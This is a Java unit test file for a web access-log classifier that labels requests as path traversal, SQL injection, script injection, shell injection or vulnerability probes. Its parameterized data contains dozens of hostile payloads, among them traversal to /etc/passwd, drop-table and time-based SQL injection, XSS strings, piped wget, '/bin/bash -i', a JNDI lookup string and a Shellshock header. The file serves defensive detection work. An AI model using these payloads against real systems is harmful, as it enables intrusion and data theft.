package io.streamweir.stages.accesslog;

import static org.assertj.core.api.Assertions.assertThat;

import io.streamweir.schemas.accesslog.AccessEvent;
import io.streamweir.schemas.accesslog.Suspicion;
import java.time.Duration;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SuspicionsTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = ' ',
      quoteCharacter = '\t',
      value = {
        "TRAVERSAL /../etc/passwd",
        "TRAVERSAL /a/..%2f..%2fetc/passwd",
        "TRAVERSAL /%2e%2e/%2E%2E/x",
        "TRAVERSAL /%252e%252e%252fx",
        "TRAVERSAL /a/..%c0%af..%c0%afwinnt",
        "TRAVERSAL /%c0%ae%c0%ae/x",
        "TRAVERSAL /show?file=..\\\\..\\\\boot.ini",
        "TRAVERSAL /show?file=../x",
        "TRAVERSAL /show?file=a%00.png",
        "TRAVERSAL /?page=php://filter/x",
        "TRAVERSAL /a/..",
        "TRAVERSAL /*/../*/x",
        "SQL_INJECTION /a?id=1%27%20OR%20%271%27=%271",
        "SQL_INJECTION /a?id=1'+or+'a'='a",
        "SQL_INJECTION /a?id=1+or+1=1",
        "SQL_INJECTION /a?id=1)+or+(1=1",
        "SQL_INJECTION /a?id=-1+UNION+ALL+SELECT+1,2",
        "SQL_INJECTION /a?id=-1/**/union/*x*/select/**/1",
        "SQL_INJECTION /a?u=admin'--",
        "SQL_INJECTION /a?u=admin'%23",
        "SQL_INJECTION /a?id=1;drop+table+users",
        "SQL_INJECTION /a?id=sleep(5)",
        "SQL_INJECTION /a?id=1;waitfor+delay+'0:0:5'",
        "SQL_INJECTION /a?q=x+from+information_schema.tables",
        "SCRIPT_INJECTION /a?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "SCRIPT_INJECTION /a?q=<ScRiPt+src=x>",
        "SCRIPT_INJECTION /a?q=%22+onmouseover=alert(1)",
        "SCRIPT_INJECTION /a?q=<b+onclick=x>",
        "SCRIPT_INJECTION /a?u=javascript:alert(1)",
        "SCRIPT_INJECTION /a?q=<svg/onload=x>",
        "SCRIPT_INJECTION /a?q=\\x3cscript\\x3e",
        "SHELL_INJECTION /a?h=x;cat+/etc/hosts",
        "SHELL_INJECTION /a?h=x|wget+http://x",
        "SHELL_INJECTION /a?h=x%26%26whoami",
        "SHELL_INJECTION /a?h=$(id)",
        "SHELL_INJECTION /a?h=`id`",
        "SHELL_INJECTION /a?h=/bin/bash+-i",
        "SHELL_INJECTION /scripts/cmd.exe?/c+dir",
        "SHELL_INJECTION /?x=${jndi:ldap://h/a}",
        "PROBE /wp-login.php",
        "PROBE /WP-Login.php?action=register",
        "PROBE /blog/wp-admin/",
        "PROBE /blog/wp-admin",
        "PROBE /.env",
        "PROBE /.env.production",
        "PROBE /%2eenv",
        "PROBE /.git/config",
        "PROBE /phpMyAdmin-4.1/",
        "PROBE /x?file=/etc/passwd",
        "PROBE /x?file=/bin/sh"
      })
  void findsAttacks(Suspicion expected, String target) {
    assertThat(of(target)).isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/a/b.html?x=1&y=2",
        "/files/?C=M;O=A",
        "/blog/tags/sysadmin",
        "/a...b",
        "/v1..v2",
        "/git/",
        "/environment",
        "/?q=union+station+and+selection",
        "/?q=select+a+union",
        "/?q=O%27Reilly+and+sons",
        "/?q=%22redis+streams%22+and+kafka",
        "/?q=rock+'n'+roll",
        "/?fields=id|type|name",
        "/?langs=php|perl|python",
        "/a;id=7",
        "/a;type=i",
        "/?q=%22--help%22",
        "/?q=a+<+b+and+c+>+d",
        "/javascript:void(0)",
        "/docs/javascript/on-error",
        "/?q=cats;dogs",
        "/?q=drop+shipping",
        "/?redirect=http://example.com/a/b",
        "/?q=100%25",
        "/%",
        "/?t=%zz",
        "/etc/hosts.html",
        "/wp-content/uploads/a.png",
        "/wp-administration",
        "/sleep(a",
        "/?a=b&&c=d",
        "/x/..y/z",
        "/*",
        "/caf%C3%A9/",
        "/?on=load&onload",
        "/?q=C%23+and+F%23"
      })
  void letsHarmlessTargetsPass(String target) {
    assertThat(of(target)).isNull();
  }

  @Test
  void findsCodeInRefererAndAgent() {
    assertThat(of("/", "-", "() { :;}; /bin/true")).isEqualTo(Suspicion.SHELL_INJECTION);
    assertThat(of("/", "${jndi:ldap://h/a}", "-")).isEqualTo(Suspicion.SHELL_INJECTION);
    assertThat(of("/", "https://example.com/{id}", "x {y}")).isNull();
    assertThat(of("/", null, null)).isNull();
  }

  @Test
  void takesLittleTimeForLongHostileTargets() {
    String[] parts = {
      "%", "%25", "/", "/*", "..", "<a ", "' or ", "+", "(", "union ", "\\", ";cat ", "' or a"
    };

    Assertions.assertTimeout(
        Duration.ofSeconds(10),
        () -> {
          for (String part : parts) {
            String text = part.repeat(1_000_000 / part.length());
            of("/" + text, "{" + text, "{" + text);
          }
        });
  }

  private static Suspicion of(String target) {
    return of(target, null, null);
  }

  private static Suspicion of(String target, String referer, String agent) {
    return Suspicions.of(
        new AccessEvent("h", "-", "-", 0L, "GET", target, "HTTP/1.1", 200, 1L, referer, agent));
  }
}
